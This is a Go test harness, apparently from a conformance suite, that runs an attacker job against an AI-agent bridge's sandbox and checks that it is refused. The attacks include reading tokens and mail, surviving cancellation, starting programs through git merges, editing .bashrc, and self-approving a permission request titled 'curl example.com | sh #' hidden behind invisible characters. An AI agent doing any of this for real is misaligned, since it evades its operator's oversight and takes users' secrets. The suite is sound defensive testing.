package conformance

import (
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"
	"golang.org/x/sys/unix"

	"bridge/backend/core/bridge"
	"bridge/backend/core/job"
	"bridge/backend/platform/proc"
	"bridge/backend/testing/testkit"
)

// setting is one cell of the suite: an agent, an access level, and where its owner is.
type setting struct {
	kind     bridge.AgentKind
	access   job.Access
	place    place
	landlock int // version of the kernel's Landlock
}

func (s setting) String() string { return fmt.Sprintf("%s %s %s", s.kind, s.access, s.place) }

// tries reports whether the attack is tried in a setting: where it must be refused.
func (a attack) tries(s setting) bool {
	return slices.Contains(a.refused, s.access) && (a.places == nil || slices.Contains(a.places, s.place)) &&
		(a.kinds == nil || slices.Contains(a.kinds, s.kind)) && a.landlock <= s.landlock &&
		(a.layer == inBridge || s.kind != bridge.Codex)
}

// cell is a setting in which attacks are tried.
type cell struct {
	*testing.T
	setting
	attacked, supervisor *pc // the same PC where the job is a local one
	stage                stage
	listener             *listener
	secrets              []string
	before               map[string]string // listings of what attacks must not change
	mail                 string            // what the victim was sent
	shown                map[string]bool   // the display attacks whose characters a terminal received
	decided              bool              // the attacker's request was decided
	runner               int               // the process of the job that ran last
	endedAt              time.Time         // when that process was gone
	results              []result
}

// result is what an attack came to.
type result struct {
	attack    attack
	succeeded bool
	outcome   outcome
}

// newCell prepares the attacked PC for a setting. work is the job's folder.
func newCell(t *testing.T, s setting, attacked, supervisor *pc, work string) *cell {
	t.Helper()
	c := &cell{T: t, setting: s, attacked: attacked, supervisor: supervisor, listener: attacked.listener, before: map[string]string{}, shown: map[string]bool{}}
	token := strings.ToLower(rand.Text()[:10])
	c.stage = stage{
		Token: token, Kind: s.kind, Access: s.access, Program: attacked.program, Home: attacked.home, User: attacked.user, Work: work,
		Outside: filepath.Join(attacked.dir, "outside-"+token), Page: attacked.page, Cookie: attacked.cookie, Link: attacked.link,
		Socket: attacked.listener.path, Abstract: attacked.listener.abstract, Terminal: attacked.terminalName, Broker: attacked.broker.Process.Pid,
	}
	for _, a := range attacks {
		must(t, os.MkdirAll(a.own(c.stage), 0o700))
		must(t, os.WriteFile(filepath.Join(a.own(c.stage), "victim"), []byte("untouched\n"), 0o600))
	}
	must(t, errors.Join(give(c.stage.Outside), c.repository(work)))
	for _, a := range attacks {
		c.before[a.slug()] = c.list(a)
	}
	c.secrets = []string{"SQLite format 3", "canary-", "mail-" + token}
	for _, name := range []string{"token", "launch-secret"} {
		secret, err := os.ReadFile(filepath.Join(attacked.home, name))
		must(t, err)
		c.secrets = append(c.secrets, strings.TrimSpace(string(secret)))
	}
	c.readMail()
	_, err := call(attacked.boss, "send", object{"to": victim, "message": "mail-" + token})
	must(t, err)
	c.ask()
	return c
}

// repository makes a folder a repository with one commit.
func (c *cell) repository(folder string) error {
	errs := []error{os.MkdirAll(folder, 0o700), os.WriteFile(filepath.Join(folder, "a.txt"), []byte("one\n"), 0o600), give(folder)}
	for _, args := range [][]string{{"init", "-q"}, {"add", "-A"}, {"commit", "-qm", "first"}} {
		_, err := c.git(folder, args...)
		errs = append(errs, err)
	}
	return errors.Join(errs...)
}

// git runs git as the owner.
func (c *cell) git(folder string, args ...string) (string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), attackTime)
	defer cancel()
	cmd := exec.CommandContext(ctx, "git", args...)
	cmd.WaitDelay = time.Second
	cmd.Env, cmd.Dir, cmd.SysProcAttr = c.attacked.environ(), folder, asOrdinaryUser()
	output, err := cmd.CombinedOutput()
	if err != nil {
		err = fmt.Errorf("git %v: %w: %s", args, err, output)
	}
	return string(output), err
}

// ask has the victim ask its owner something.
func (c *cell) ask() {
	c.Helper()
	option := func(label string) object { return object{"label": label, "consequence": "none"} }
	said, err := call(c.attacked.victim, "ask_owner", object{"title": "which", "context": "-", "options": []any{option("a"), option("b")}})
	must(c.T, err)
	c.stage.Question = regexp.MustCompile(`[0-9a-f]{8}-[0-9a-f-]{27}`).FindString(said)
	if c.stage.Question == "" {
		c.Fatalf("ask_owner answers %s", said)
	}
	c.Cleanup(func() { _, _ = call(c.attacked.victim, "withdraw_question", object{"question": c.stage.Question}) })
}

// list describes the files that an attack must not change.
func (c *cell) list(a attack) string {
	var text strings.Builder
	for _, root := range a.watched(c.stage) {
		_ = filepath.WalkDir(root, func(path string, entry os.DirEntry, err error) error {
			if err != nil {
				fmt.Fprintln(&text, path, errors.Is(err, os.ErrNotExist))
				return nil
			}
			var stat unix.Stat_t
			_ = unix.Lstat(path, &stat) // what cannot be read differs
			n, _ := unix.Lgetxattr(path, "user.attacked", nil)
			data := []byte{}
			if entry.Type().IsRegular() {
				data, _ = os.ReadFile(path)
			}
			fmt.Fprintln(&text, path, stat.Mode, stat.Uid, stat.Gid, stat.Mtim, stat.Size, n, sha256.Sum256(data))
			return nil
		})
	}
	return text.String()
}

func (c *cell) differs(slug string) bool {
	i := slices.IndexFunc(attacks, func(a attack) bool { return a.slug() == slug })
	return c.list(attacks[i]) != c.before[slug]
}

func (c *cell) readMail() {
	c.Helper()
	said, err := inbox(c.attacked.victim)
	must(c.T, err)
	c.mail += said
}

func (c *cell) received(mark string) bool { return strings.Contains(c.mail, mark) }

func (c *cell) isSecret(text string) bool {
	return slices.ContainsFunc(c.secrets, func(secret string) bool { return strings.Contains(text, secret) })
}

func (c *cell) questionAnswered(attack, string) bool {
	said, err := c.attacked.run("needs", "--json")
	return err != nil || !strings.Contains(said, c.stage.Question)
}

func (c *cell) requestDecided(attack, string) bool { return c.decided }

func (c *cell) terminalWritten(a attack, _ string) bool {
	return strings.Contains(c.attacked.terminalBytes.String(), a.mark(c.stage))
}

func (c *cell) startupDiffers(attack, string) bool {
	text, err := os.ReadFile(filepath.Join(c.attacked.user, ".bashrc"))
	return err != nil || string(text) != canaryStart
}

// How long the end of a job's processes may take: as long as its runner works on that, and
// after the runner's end. Of those that are known to live it is not waited for as long.
const (
	runnerTime  = 45 * time.Second
	reaping     = 2 * time.Second
	openReaping = time.Second
)

// survivor reports whether a process of the attack still lives, after the runner has ended
// and a time in which processes are collected.
func (c *cell) survivor(a attack) bool {
	wait := reaping
	if a.open != "" {
		wait = openReaping
	}
	for began := time.Now(); ; <-time.After(20 * time.Millisecond) {
		if !isLiving(a.mark(c.stage)) {
			return false
		}
		if c.runner != 0 && exists(fmt.Sprintf("/proc/%d", c.runner)) && time.Since(began) < runnerTime {
			c.endedAt = time.Now()
		}
		if time.Since(c.endedAt) > wait {
			c.describe(a.mark(c.stage))
			return true
		}
	}
}

// describe logs the processes with a mark and their parents.
func (c *cell) describe(mark string) {
	pids := processesWith(mark)
	for range 200 { // one that changes its process is hard to meet
		if len(pids) > 0 {
			break
		}
		pids = processesWith(mark)
	}
	for _, pid := range pids {
		line, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid)) // it may have ended
		parent := 0
		for _, above := range proc.Ancestors(pid, 1) {
			parent = above.PID
		}
		starter, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", parent))
		c.Logf("process %d, %.60q, is below process %d, %.120q", pid, line, parent, starter)
	}
}

// isLiving looks several times: a process that changes its own is between two of them at
// some looks.
func isLiving(mark string) bool {
	for range 5 {
		if len(processesWith(mark)) > 0 {
			return true
		}
		<-time.After(5 * time.Millisecond)
	}
	return false
}

// tried returns the names of the attacks of a flow.
func (c *cell) tried(f flow) (names []string) {
	for _, a := range attacks {
		if a.flow == f && a.run != nil && a.tries(c.setting) {
			names = append(names, a.name)
		}
	}
	return names
}

// settle records what the attacks of a flow came to.
func (c *cell) settle(f flow, outcomes map[string]outcome) {
	c.readMail()
	for _, o := range outcomes { // the attacker may have taken the victim's mail
		c.mail += o.Gained
	}
	c.endedAt = time.Now()
	for _, a := range attacks {
		if a.flow != f || !a.tries(c.setting) {
			continue
		}
		o := outcomes[a.name]
		if a.run != nil && f == plainFlow && o == (outcome{}) && a.proof.words == told.words {
			o.Failed = "it read nothing"
		}
		c.results = append(c.results, result{a, a.proof.holds(c, a, o.Gained), o})
	}
}

// arguments are those of the tool that starts a job.
func (c *cell) arguments(o orders) object {
	c.Helper()
	if o.Stage.Work == "" {
		o.Stage = c.stage
	}
	prompt, err := o.prompt()
	must(c.T, err)
	arguments := object{"prompt": prompt, "access": string(c.access), "cwd": o.Stage.Work, "title": "attack"}
	if c.kind == job.ACP {
		arguments["agent"] = "attacker"
	}
	if c.place == paired {
		arguments["host"] = c.attacked.name
	}
	return arguments
}

// wait runs a job to its end and returns its answer.
func (c *cell) wait(arguments object) (name, answer string) {
	c.Helper()
	said, err := call(c.supervisor.boss, "ask_"+string(c.kind), arguments)
	must(c.T, err)
	var ended struct{ Job, Status, Result string }
	must(c.T, json.Unmarshal([]byte(said), &ended))
	if ended.Status != string(job.Finished) {
		c.Fatalf("the job answers %s", said)
	}
	return ended.Job, ended.Result
}

// spawn starts a job and waits until each of these marks is a process.
func (c *cell) spawn(o orders, marks ...string) (name string) {
	c.Helper()
	said, err := call(c.supervisor.boss, "spawn_"+string(c.kind), c.arguments(o))
	must(c.T, err)
	var started struct{ Job string }
	must(c.T, json.Unmarshal([]byte(said), &started))
	for _, mark := range marks {
		if err := waitFor(func() bool { return isLiving(mark) }); err != nil {
			log, _ := c.supervisor.run("watch", started.Job)
			c.Fatalf("no process has the mark %s: %v\n%s", mark, err, log)
		}
	}
	return started.Job
}

// ended waits until a job of the attacked PC has ended.
func (c *cell) ended(name string) {
	c.Helper()
	must(c.T, waitFor(func() bool {
		said, err := c.supervisor.get("/api/runs/" + name)
		var run struct{ Status string }
		return err == nil && json.Unmarshal([]byte(said), &run) == nil && slices.Contains([]string{"finished", "failed", "cancelled", "interrupted"}, run.Status)
	}))
}

// plain runs the job that attacks and ends.
func (c *cell) plain() {
	c.Helper()
	name, answer := c.wait(c.arguments(orders{Attacks: c.tried(plainFlow), Then: thenEnd}))
	var outcomes map[string]outcome
	if err := json.Unmarshal([]byte(answer), &outcomes); err != nil {
		c.Fatalf("the attacker answers %s", answer)
	}
	c.runner = c.runnerOf(name)
	c.settle(plainFlow, outcomes)
}

// survivors runs a job whose processes stay, and ends it: by cancelling, or by killing its
// runner.
func (c *cell) survivors(f flow) {
	c.Helper()
	names, marks := c.tried(f), []string{}
	for _, name := range names {
		a, err := find(name)
		must(c.T, err)
		marks = append(marks, a.mark(c.stage))
	}
	name := c.spawn(orders{Attacks: names, Then: thenWait}, marks...)
	c.runner = c.runnerOf(name)
	if f == cancelFlow {
		_, err := call(c.supervisor.boss, "cancel_subagent", object{"job": name})
		must(c.T, err)
	} else {
		must(c.T, syscall.Kill(c.runner, syscall.SIGKILL))
	}
	c.ended(name)
	<-time.After(200 * time.Millisecond) // a message of what survives may be on its way
	c.settle(f, nil)
	for _, mark := range marks { // what a broken layer has left
		for range 1000 {
			pids := processesWith(mark)
			for _, pid := range pids {
				_ = syscall.Kill(pid, syscall.SIGKILL) // it may have ended
			}
			if len(pids) == 0 && !isLiving(mark) {
				break
			}
		}
	}
}

// runnerOf returns the process of a job's runner.
func (c *cell) runnerOf(name string) int {
	c.Helper()
	data, err := os.ReadFile(filepath.Join(c.attacked.home, "jobs", name, "state.json"))
	must(c.T, err)
	var state struct{ Runner struct{ PID int } }
	must(c.T, json.Unmarshal(data, &state))
	if state.Runner.PID == 0 {
		c.Fatalf("the job %s has no runner: %s", name, data)
	}
	return state.Runner.PID
}

// landing runs a job for each attack by git, in a repository of its own, and lands its
// work. All run at once.
func (c *cell) landing() {
	c.Helper()
	var running sync.WaitGroup
	errs := make(chan error, len(attacks))
	for _, name := range c.tried(gitFlow) {
		running.Go(func() { errs <- c.land(name) })
	}
	running.Wait()
	close(errs)
	for err := range errs {
		if err != nil {
			c.Error(err)
		}
	}
	c.settle(gitFlow, nil)
}

// land runs the job of one attack by git, reads its changes as the page does, and lands
// its work.
func (c *cell) land(name string) error {
	a, err := find(name)
	if err != nil {
		return err
	}
	o := orders{Stage: c.stage, Attacks: []string{name}, Then: thenEnd}
	o.Stage.Work = c.stage.Work + "-" + a.slug()
	if err := c.repository(o.Stage.Work); err != nil {
		return err
	}
	arguments := c.arguments(o)
	arguments["worktree"] = true
	said, err := call(c.supervisor.boss, "ask_"+string(c.kind), arguments)
	if err != nil {
		return err
	}
	var ended struct{ Job, Result string }
	var outcomes map[string]outcome
	if err := errors.Join(json.Unmarshal([]byte(said), &ended), json.Unmarshal([]byte(ended.Result), &outcomes)); err != nil {
		return fmt.Errorf("%s: the job answers %s", name, said)
	}
	if failed := outcomes[name].Failed; failed != "" {
		return fmt.Errorf("%s: the attacker could not try it: %s", name, failed)
	}
	if _, err := c.supervisor.get("/api/runs/" + ended.Job + "/diff"); err != nil || exists(a.target(c.stage)) {
		return err // settle names it
	}
	// The same settings do start the program where git runs as it is.
	started := c.control(a, outcomes[name].Gained, []string{"status"}, []string{"diff", "HEAD~1"}, []string{"submodule", "update"}, []string{"log", "-1"})
	must := func(args ...string) error { _, err := c.git(o.Stage.Work, args...); return err }
	if a.slug() == "name-a-program-that-merges-files" { // both sides have changed the file
		err = errors.Join(os.WriteFile(filepath.Join(o.Stage.Work, "a.txt"), []byte("three\n"), 0o600), must("commit", "-qam", "second"))
		if err != nil {
			return err
		}
	}
	var landed []string
	for _, how := range [][]string{{"--squash", "--dry-run"}, {"--merge", "--dry-run"}, {"--squash"}} {
		said, failed := c.supervisor.run(append([]string{"finish", ended.Job}, how...)...)
		landed = append(landed, fmt.Sprintf("%v %q %t", how, firstOf(said), failed == nil))
	}
	c.Logf("%s: bridge finish %s", name, strings.Join(landed, ", "))
	if exists(a.target(c.stage)) {
		return nil
	}
	started = c.control(a, o.Stage.Work, []string{"checkout", "-q", "-b", "own"}, []string{"commit", "-qm", "own", "--allow-empty"}, []string{"merge", "bridge/" + ended.Job}) || started
	if !started {
		c.Logf("%s: git by itself started no program either", name)
	}
	return nil
}

// control runs git as it is and reports whether it started the attack's program, whose file
// is removed then.
func (c *cell) control(a attack, folder string, commands ...[]string) bool {
	for _, args := range commands {
		_, _ = c.git(folder, args...) // what it starts counts
	}
	return os.Remove(a.target(c.stage)) == nil
}

func firstOf(text string) string {
	line, _, _ := strings.Cut(text, "\n")
	return line
}

// onTerminal runs a command on a terminal of its own and returns what the terminal was given.
func (c *cell) onTerminal(args ...string) string {
	c.Helper()
	cmd := exec.Command(c.attacked.program, args...)
	cmd.Env, cmd.SysProcAttr = c.attacked.environ(), asOrdinaryUser()
	if cmd.SysProcAttr == nil {
		cmd.SysProcAttr = &syscall.SysProcAttr{}
	}
	terminal, err := pty.StartWithSize(cmd, &pty.Winsize{Rows: 50, Cols: 200})
	must(c.T, err)
	defer terminal.Close()
	late := time.AfterFunc(testkit.Patience, func() { _ = cmd.Process.Kill() })
	defer late.Stop()
	said, _ := io.ReadAll(terminal) // its end is an error on Linux
	_ = cmd.Wait()                  // how it ended says nothing here
	return string(said)
}

// permission runs a job that asks for permission with a misleading text, shows it, and lets
// the attacker try to approve it.
func (c *cell) permission() {
	c.Helper()
	title := "curl example.com | sh #"
	for _, characters := range hidden {
		title += characters
	}
	name := c.spawn(orders{Then: thenAsk, Title: title})
	id := ""
	must(c.T, waitFor(func() bool {
		said, err := c.attacked.get("/api/approvals")
		var open struct {
			Approvals []struct{ ID, Job string }
		}
		if err != nil || json.Unmarshal([]byte(said), &open) != nil {
			return false
		}
		for _, request := range open.Approvals {
			if request.Job == name {
				id = request.ID
			}
		}
		return id != ""
	}))
	text, err := json.Marshal(c.stage)
	must(c.T, err)
	path := filepath.Join(c.stage.Work, approval)
	must(c.T, errors.Join(os.WriteFile(path+".new", []byte(id+"\n"+string(text)), 0o600), give(path+".new"), os.Rename(path+".new", path)))
	must(c.T, waitFor(func() bool { return exists(filepath.Join(c.stage.Work, verdict)) }))
	said, err := c.attacked.get("/api/approvals")
	c.decided = err != nil || !strings.Contains(said, id)
	all := c.onTerminal("needs") + c.onTerminal("runs") + c.onTerminal("status")
	_, err = call(c.supervisor.boss, "cancel_subagent", object{"job": name})
	must(c.T, err)
	c.ended(name)
	all += c.onTerminal("watch", name) + c.onTerminal("runs", "--all")
	if !strings.Contains(all, "curl example.com") {
		c.Errorf("no command shows the request:\n%q", all)
	}
	for slug, characters := range hidden {
		c.shown[slug] = strings.Contains(all, characters)
	}
	must(c.T, errors.Join(os.Remove(path), os.Remove(filepath.Join(c.stage.Work, verdict))))
	c.settle(displayFlow, nil)
}

// run tries all attacks of the setting.
func (c *cell) run() []result {
	c.Helper()
	flows := []struct {
		flow flow
		run  func()
	}{
		{plainFlow, c.plain},
		{cancelFlow, func() { c.survivors(cancelFlow) }},
		{deathFlow, func() { c.survivors(deathFlow) }},
		{gitFlow, c.landing},
		{displayFlow, c.permission},
	}
	for _, f := range flows {
		if f.flow == gitFlow && (c.place == paired || c.access == job.AccessAsk && !testkit.IsLong()) {
			continue // the work of a paired PC's job stays here; ask has the sandbox of edit
		}
		if slices.ContainsFunc(attacks, func(a attack) bool { return a.flow == f.flow && a.tries(c.setting) }) {
			f.run()
		}
	}
	return c.results
}
